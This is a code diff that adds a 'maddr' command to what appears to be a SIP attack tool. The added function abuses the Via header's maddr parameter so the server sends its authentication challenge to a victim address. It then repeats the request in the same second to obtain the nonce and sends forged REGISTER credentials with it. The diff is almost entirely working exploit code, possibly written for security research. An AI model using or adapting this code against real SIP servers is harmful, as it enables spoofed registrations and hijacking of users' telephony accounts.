@@ -165,8 +165,29 @@ def nonces(forger):
             forger.request("REGISTER", "100", login=sip.credentials(nonce))
 
 
+def maddr(forger):
+    """A challenge that is for the attacker goes to the victim, by maddr in Via (RFC 3261 18.2.2). He
+    asks once more in the same second, and has the nonce himself."""
+    o = forger.options
+    own = (o.own, 5097)
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+        sock.bind(own)
+        sock.connect((SERVER, 5060))
+        sock.settimeout(0.5)
+        for _ in range(o.seconds):
+            time.sleep(1.02 - time.time() % 1)
+            text = sip.request("REGISTER", "100", SERVER, own)
+            sock.send(text.replace(b";branch", f";maddr={o.victim};branch".encode()))
+            time.sleep(0.05)
+            sock.send(sip.request("REGISTER", "100", SERVER, own))
+            nonce = sip.nonce(response(sock))
+            forger.learned += bool(nonce)
+            for _ in range(5):
+                forger.request("REGISTER", "100", login=sip.credentials(nonce))
+
+
 COMMANDS = {"echo": echo, "nobody": nobody, "crowd": crowd, "overwrite": overwrite,
-            "replay": replay, "nonces": nonces}
+            "replay": replay, "nonces": nonces, "maddr": maddr}
 
 
 def main():
